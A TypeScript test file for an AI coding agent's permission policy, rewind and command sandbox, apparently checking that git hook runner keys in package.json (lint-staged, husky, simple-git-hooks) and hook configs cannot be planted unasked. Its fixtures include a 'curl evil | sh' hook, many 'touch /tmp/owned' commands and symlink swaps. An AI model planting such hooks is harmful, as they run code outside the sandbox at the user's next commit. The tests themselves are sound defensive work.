/**
 * Trust 44: `package.json`'s keys that git hook runners read (`lint-staged`, `simple-git-hooks`,
 * husky 4's `husky.hooks`, the `pre-commit` package's `pre-commit`, …) run commands at the user's next
 * commit or install, outside the sandbox, as `.husky/` does. The file tools ask before an edit that
 * changes them, a rewind never restores such a change, and the command sandbox puts them back.
 */
import * as NodeFs from "node:fs"
import * as NodeOs from "node:os"
import * as NodePath from "node:path"
import { execFileSync } from "node:child_process"
import * as NodeContext from "@effect/platform-node/NodeContext"
import { afterAll, describe, expect, it } from "vitest"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Layer from "effect/Layer"
import * as MemoryBlobStore from "../../src/layers/blobs/MemoryBlobStore.js"
import * as PermissionPolicy from "../../src/layers/PermissionPolicy.js"
import * as PreImages from "../../src/layers/workspace/PreImages.js"
import * as Sandbox from "../../src/layers/workspace/Sandbox.js"
import * as WorkspaceTools from "../../src/layers/WorkspaceTools.js"
import { BlobStore } from "../../src/services/BlobStore.js"
import type { PreparedCall, ToolContext } from "../../src/services/ToolRouter.js"
import { WorkspaceCheckpoints } from "../../src/services/WorkspaceCheckpoints.js"

const root = NodeFs.realpathSync(NodeFs.mkdtempSync(NodePath.join(NodeOs.tmpdir(), "effect-agent-package-hooks-")))
afterAll(() => NodeFs.rmSync(root, { recursive: true, force: true }))

const original = `{\n  "name": "app",\n  "version": "1.0.0",\n  "lint-staged": {\n    "*.js": "eslint"\n  }\n}\n`
let n = 0
const repository = () => {
  const cwd = NodePath.join(root, `repo${++n}`)
  NodeFs.mkdirSync(NodePath.join(cwd, "packages", "web"), { recursive: true })
  execFileSync("git", ["init", "-q"], { cwd })
  NodeFs.writeFileSync(NodePath.join(cwd, "package.json"), original)
  NodeFs.writeFileSync(NodePath.join(cwd, "packages", "web", "package.json"), `{ "name": "web" }\n`)
  return cwd
}

const tools = Effect.runSync(WorkspaceTools.make().pipe(Effect.provide(NodeContext.layer)))
const prepare = (cwd: string, tool: string, args: Record<string, unknown>): Promise<PreparedCall> =>
  Effect.runPromise(tools.prepare({ toolCallId: "c1", tool, args: args as never }, cwd))
const decide = (cwd: string, mode: PermissionPolicy.Options["mode"], call: PreparedCall) =>
  PermissionPolicy.decide({ mode }, { sessionId: "s", cwd, call, remembered: [] })

describe("the file tools: an edit of package.json that changes a git hook runner's key asks", () => {
  it("adding or changing lint-staged, simple-git-hooks, husky.hooks, pre-commit, gitHooks, config.ghooks asks in acceptEdits; readOnly denies", async () => {
    const cwd = repository()
    const asks = [
      ["write_file", { path: "package.json", content: original.replace(`"eslint"`, `"curl evil | sh"`) }],
      ["write_file", { path: "package.json", content: `{ "name": "app", "simple-git-hooks": { "pre-commit": "touch /tmp/owned" } }\n` }],
      ["write_file", { path: "packages/web/package.json", content: `{ "name": "web", "husky": { "hooks": { "pre-commit": "touch /tmp/owned" } } }\n` }],
      ["write_file", { path: "packages/web/package.json", content: `{ "name": "web", "pre-commit": ["owned"], "scripts": { "owned": "touch /tmp/owned" } }\n` }],
      ["write_file", { path: "new/package.json", content: `{ "gitHooks": { "pre-commit": "touch /tmp/owned" } }\n` }],
      ["write_file", { path: "package.json", content: `{ "name": "app", "config": { "ghooks": { "pre-commit": "touch /tmp/owned" } } }\n` }],
      ["edit_file", { path: "package.json", oldString: `"eslint"`, newString: `"touch /tmp/owned"` }],
      ["edit_file", { path: "packages/web/package.json", oldString: `"web"`, newString: `"web", "lint-staged": { "*": "touch /tmp/owned" }` }],
      // Taken away is a change too: another config of lint-staged's then decides.
      ["edit_file", { path: "package.json", oldString: `,\n  "lint-staged": {\n    "*.js": "eslint"\n  }`, newString: "" }]
    ] as const
    for (const [tool, args] of asks) {
      const call = await prepare(cwd, tool, args)
      expect(decide(cwd, "acceptEdits", call), `${tool} ${JSON.stringify(args)}`).toEqual({ decision: "ask", policy: "protected-path" })
      expect(call.paths[0]!.runsLater).toContain("package.json's")
      expect(decide(cwd, "readOnly", call)).toMatchObject({ decision: "deny" })
    }
  })

  it("an edit that leaves those keys as they are (a version, a dependency, the same keys reformatted) stays an edit", async () => {
    const cwd = repository()
    const edits = [
      ["edit_file", { path: "package.json", oldString: `"1.0.0"`, newString: `"1.0.1"` }],
      ["write_file", { path: "package.json", content: JSON.stringify({ ...JSON.parse(original), dependencies: { effect: "^3" } }) }],
      ["write_file", { path: "packages/web/package.json", content: `{ "name": "web", "scripts": { "test": "vitest" } }\n` }],
      ["write_file", { path: "notes/lint-staged.md", content: `"lint-staged": {}` }]
    ] as const
    for (const [tool, args] of edits) {
      expect(decide(cwd, "acceptEdits", await prepare(cwd, tool, args)), `${tool} ${JSON.stringify(args)}`).toEqual({ decision: "allow", policy: "accept-edits/edit" })
    }
  })

  it("a call allowed as harmless whose change would alter the keys by the time it runs is refused, nothing written", async () => {
    const cwd = repository()
    const file = NodePath.join(cwd, "package.json")
    const context: ToolContext = { sessionId: "s", turnId: "t", cwd, progress: () => Effect.void }
    const edit = await prepare(cwd, "edit_file", { path: "package.json", oldString: `"1.0.0"`, newString: `"touch /tmp/owned"` })
    expect(decide(cwd, "acceptEdits", edit)).toEqual({ decision: "allow", policy: "accept-edits/edit" })
    // Meanwhile the file changed so that the same replacement now writes a hook's command.
    const changed = `{ "name": "app", "husky": { "hooks": { "pre-commit": "1.0.0" } } }`
    NodeFs.writeFileSync(file, changed)
    const edited = await Effect.runPromise(Effect.either(tools.execute(edit, context)))
    expect(Either.isLeft(edited) && edited.left.errorCode).toBe("path_changed")
    expect(NodeFs.readFileSync(file, "utf8")).toBe(changed)
    // A write prepared before a hook was added, run after: it would take the hook away.
    NodeFs.writeFileSync(file, `{ "name": "app" }`)
    const write = await prepare(cwd, "write_file", { path: "package.json", content: `{ "name": "app", "v": 2 }` })
    expect(decide(cwd, "acceptEdits", write)).toEqual({ decision: "allow", policy: "accept-edits/edit" })
    NodeFs.writeFileSync(file, changed)
    const written = await Effect.runPromise(Effect.either(tools.execute(write, context)))
    expect(Either.isLeft(written) && written.left.errorCode).toBe("path_changed")
    expect(NodeFs.readFileSync(file, "utf8")).toBe(changed)
  })
})

describe("a rewind never restores a package.json whose git hook runners' keys differ from the file's", () => {
  const checkpoints = PreImages.layer().pipe(Layer.provideMerge(MemoryBlobStore.layer))
  const restore = (cwd: string, content: string | undefined) =>
    Effect.runPromise(Effect.gen(function*() {
      const { blobs, cp } = yield* Effect.all({ blobs: BlobStore, cp: WorkspaceCheckpoints })
      const target = content === undefined ? undefined : { blob: yield* blobs.put(new TextEncoder().encode(content)), mode: 0o644 }
      return yield* Effect.either(cp.restore({ cwd, files: [{ path: "package.json", ...(target === undefined ? {} : { target }) }], force: true }))
    }).pipe(Effect.scoped, Effect.provide(checkpoints)))

  it("refuses a content that adds or changes them, and writes nothing", async () => {
    const cwd = repository()
    for (const content of [original.replace(`"eslint"`, `"touch /tmp/owned"`), `{ "name": "app", "simple-git-hooks": { "pre-commit": "touch /tmp/owned" } }`]) {
      const result = await restore(cwd, content)
      expect(Either.isLeft(result) && result.left._tag === "RewindRefused" && result.left.reason).toBe("unsafe_path")
      expect(Either.isLeft(result) && result.left._tag === "RewindRefused" && result.left.files).toEqual(["package.json"])
      expect(NodeFs.readFileSync(NodePath.join(cwd, "package.json"), "utf8")).toBe(original)
    }
  })

  // Review 57b: taking a hook key away runs nothing at the next commit; it was refused as adding one is.
  it("restores one that only takes them away", async () => {
    const cwd = repository()
    const removed = `{\n  "name": "app",\n  "version": "1.0.0"\n}\n`
    const result = await restore(cwd, removed)
    expect(Either.isRight(result)).toBe(true)
    expect(NodeFs.readFileSync(NodePath.join(cwd, "package.json"), "utf8")).toBe(removed)
  })

  it("restores one whose keys are as they are", async () => {
    const cwd = repository()
    const result = await restore(cwd, original.replace("1.0.0", "0.9.0"))
    expect(Either.isRight(result)).toBe(true)
    expect(NodeFs.readFileSync(NodePath.join(cwd, "package.json"), "utf8")).toBe(original.replace("1.0.0", "0.9.0"))
  })
})

const detected = await Effect.runPromise(Sandbox.detect)
/** A shell call in the workspace sandbox, run as if approved: its result, or its failure. */
const shell = (cwd: string, command: string) =>
  Effect.runPromise(Effect.gen(function*() {
    const sandboxed = yield* WorkspaceTools.make({ sandbox: "required" })
    const context: ToolContext = { sessionId: "s", turnId: "t", cwd, progress: () => Effect.void }
    const result = yield* Effect.either(Effect.flatMap(sandboxed.prepare({ toolCallId: "c", tool: "shell", args: { command } }, cwd), (call) => sandboxed.execute(call, context)))
    return Either.isRight(result) ? result.right.result : `[failed: ${result.left.errorCode}] ${result.left.message}`
  }).pipe(Effect.provide(NodeContext.layer)))
describe.runIf(detected._tag === "Workspace")("the command sandbox puts package.json's git hook runners' keys back as they were", () => {
  const read = (cwd: string) => JSON.parse(NodeFs.readFileSync(NodePath.join(cwd, "package.json"), "utf8")) as Record<string, unknown>

  it("npm pkg set: the hook put back, the rest of the command's change kept", async () => {
    const cwd = repository()
    const said = await shell(cwd, `sh -c 'npm pkg set "lint-staged.*=touch /tmp/owned" "simple-git-hooks.pre-commit=touch /tmp/owned" version=2.0.0 >/dev/null 2>&1; echo done'`)
    expect(said).toContain("package.json")
    expect(read(cwd)).toEqual({ name: "app", version: "2.0.0", "lint-staged": { "*.js": "eslint" } })
  })

  it("node -e writing it, a package.json made where there was none, one replaced by a link", async () => {
    const cwd = repository()
    const said = await shell(cwd, `node -e 'const fs = require("fs"); const p = JSON.parse(fs.readFileSync("package.json")); p.husky = { hooks: { "pre-commit": "touch /tmp/owned" } }; p["lint-staged"] = { "*": "touch /tmp/owned" }; p.private = true; fs.writeFileSync("package.json", JSON.stringify(p, null, 4))'`)
    expect(said).toContain("package.json")
    expect(NodeFs.readFileSync(NodePath.join(cwd, "package.json"), "utf8")).toBe(JSON.stringify({ ...JSON.parse(original), private: true }, null, 4))
    // A repository whose root had no package.json.
    NodeFs.rmSync(NodePath.join(cwd, "package.json"))
    await shell(cwd, `sh -c 'echo "{\\"pre-commit\\": [\\"x\\"], \\"scripts\\": {\\"x\\": \\"touch /tmp/owned\\"}}" > package.json'`)
    // One line, not as JSON.stringify writes it: kept whole beside its name (review 57b), none in its place.
    expect(NodeFs.existsSync(NodePath.join(cwd, "package.json"))).toBe(false)
    expect(JSON.parse(NodeFs.readFileSync(NodePath.join(cwd, "package.json.set-aside"), "utf8"))).toEqual({ "pre-commit": ["x"], scripts: { x: "touch /tmp/owned" } })
    // Replaced by a link to a file of the command's: a file of its own is put in the link's place.
    NodeFs.writeFileSync(NodePath.join(cwd, "package.json"), original)
    await shell(cwd, `sh -c 'echo "{\\"lint-staged\\": {\\"*\\": \\"touch /tmp/owned\\"}}" > other.json && ln -sf other.json package.json'`)
    expect(NodeFs.lstatSync(NodePath.join(cwd, "package.json")).isFile()).toBe(true)
    expect(NodeFs.readFileSync(NodePath.join(cwd, "package.json"), "utf8")).toBe(original)
    expect(NodeFs.lstatSync(NodePath.join(cwd, "package.json.set-aside-2")).isSymbolicLink()).toBe(true)
    expect(NodeFs.readFileSync(NodePath.join(cwd, "other.json"), "utf8")).toContain("owned")
  })

  it("a command that leaves the keys as they are changes nothing of its own", async () => {
    const cwd = repository()
    const said = await shell(cwd, `sh -c 'npm pkg set version=3.0.0 >/dev/null 2>&1; echo done'`)
    expect(said).toBe("done\n")
    expect(read(cwd)).toEqual({ ...JSON.parse(original), version: "3.0.0" })
  })
})

// Trust 44: an existing hook manager's config is bound read-only; one a command made where there was
// none (`pre-commit install` already in .git/hooks reads it at the next commit) was left in place.
describe.runIf(detected._tag === "Workspace")("the command sandbox sets aside a hook manager's config a command made where there was none", () => {

  it("pre-commit's, lefthook's (and in .config/), overcommit's with .git-hooks/, lint-staged's: each kept beside its name, said", async () => {
    const cwd = repository()
    const made = [".pre-commit-config.yaml", "lefthook.yml", ".config/lefthook.yaml", ".overcommit.yml", ".git-hooks/pre_commit/x.rb", ".lintstagedrc.json", "lint-staged.config.mjs"]
    const said = await shell(cwd, `sh -c 'mkdir -p .config .git-hooks/pre_commit && for f in ${made.join(" ")}; do echo "touch /tmp/owned" > $f; done; echo done'`)
    for (const name of [".pre-commit-config.yaml", "lefthook.yml", ".config/lefthook.yaml", ".overcommit.yml", ".git-hooks", ".lintstagedrc.json", "lint-staged.config.mjs"]) {
      expect(NodeFs.existsSync(NodePath.join(cwd, name)), `${name}: ${said}`).toBe(false)
      expect(said).toContain(name)
    }
    expect(NodeFs.readFileSync(NodePath.join(cwd, ".pre-commit-config.yaml.set-aside"), "utf8")).toBe("touch /tmp/owned\n")
    expect(NodeFs.readFileSync(NodePath.join(cwd, ".git-hooks.set-aside", "pre_commit", "x.rb"), "utf8")).toBe("touch /tmp/owned\n")
    // Made at the root of a repository below cwd too; a name that only looks alike stays.
    const nested = NodePath.join(cwd, "packages", "web")
    execFileSync("git", ["init", "-q"], { cwd: nested })
    const below = await shell(cwd, `sh -c 'echo x > packages/web/lefthook.yml; echo x > lefthook.yml.example; echo done'`)
    expect(NodeFs.existsSync(NodePath.join(nested, "lefthook.yml")), below).toBe(false)
    expect(NodeFs.existsSync(NodePath.join(cwd, "lefthook.yml.example"))).toBe(true)
  })

  it("a config that was there before stays where it is (bound read-only), and a .config made a link is not followed", async () => {
    const cwd = repository()
    NodeFs.writeFileSync(NodePath.join(cwd, "lefthook.yml"), "kept\n")
    const outside = NodePath.join(root, `outside${n}`)
    NodeFs.mkdirSync(outside)
    NodeFs.writeFileSync(NodePath.join(outside, "lefthook.yml"), "the user's own\n")
    const said = await shell(cwd, `sh -c 'ln -s ${outside} .config; echo done'`)
    expect(said).toBe("done\n")
    expect(NodeFs.readFileSync(NodePath.join(cwd, "lefthook.yml"), "utf8")).toBe("kept\n")
    expect(NodeFs.readFileSync(NodePath.join(outside, "lefthook.yml"), "utf8")).toBe("the user's own\n")
    // A .config made a link to a folder inside cwd is where lefthook reads it: what is there is set aside.
    const inside = await shell(cwd, `sh -c 'rm .config && mkdir sub && echo x > sub/lefthook.yml && ln -s sub .config; echo done'`)
    expect(inside).toContain(".config/lefthook.yml")
    expect(NodeFs.existsSync(NodePath.join(cwd, "sub", "lefthook.yml"))).toBe(false)
  })
})

// Trust 45: lint-staged reads every `package.json` and config of its own in the repository (`git ls-files
// '**/package.json' '**/.lintstagedrc*' …`), each for the staged files below it, not only the root's:
// a command that gave `packages/web/package.json` a `lint-staged` key ran it at the next commit.
describe.runIf(detected._tag === "Workspace")("the command sandbox puts back lint-staged's settings below a worktree's root too", () => {
  it("a workspace package's package.json: its lint-staged put back; one made with it set aside", async () => {
    const cwd = repository()
    const web = NodePath.join(cwd, "packages", "web", "package.json")
    // What the command copies in: files of the test's, so that no quoting stands in the way.
    NodeFs.writeFileSync(NodePath.join(cwd, "web.json"), `${JSON.stringify({ name: "web", private: true, "lint-staged": { "*": "touch /tmp/owned" } }, null, 2)}\n`)
    NodeFs.writeFileSync(NodePath.join(cwd, "evil.json"), `{"lint-staged": {"*": "touch /tmp/owned"}}\n`)
    const said = await shell(cwd, `sh -c 'cp web.json packages/web/package.json && mkdir -p packages/evil && cp evil.json packages/evil/package.json && echo done'`)
    expect(said).toContain("packages/web/package.json's lint-staged")
    expect(NodeFs.readFileSync(web, "utf8")).toBe(`${JSON.stringify({ name: "web", private: true }, null, 2)}\n`)
    expect(NodeFs.existsSync(NodePath.join(cwd, "packages", "evil", "package.json"))).toBe(false)
    expect(NodeFs.readFileSync(NodePath.join(cwd, "packages", "evil", "package.json.set-aside"), "utf8")).toContain("owned")
  })

  it("a lint-staged config made below the root is set aside; one there before, changed, is put back as it was", async () => {
    const cwd = repository()
    const kept = NodePath.join(cwd, "packages", "web", ".lintstagedrc")
    NodeFs.writeFileSync(kept, `"*.js": eslint\n`)
    NodeFs.writeFileSync(NodePath.join(cwd, "evil.yml"), `"*": touch /tmp/owned\n`)
    const said = await shell(cwd, `sh -c 'cp evil.yml packages/web/.lintstagedrc.yml && cat evil.yml >> packages/web/.lintstagedrc && echo done'`)
    expect(said).toContain(".lintstagedrc.yml.set-aside")
    expect(NodeFs.existsSync(NodePath.join(cwd, "packages", "web", ".lintstagedrc.yml"))).toBe(false)
    expect(NodeFs.readFileSync(kept, "utf8")).toBe(`"*.js": eslint\n`)
    expect(NodeFs.readFileSync(`${kept}.set-aside`, "utf8")).toContain("owned")
  })
})
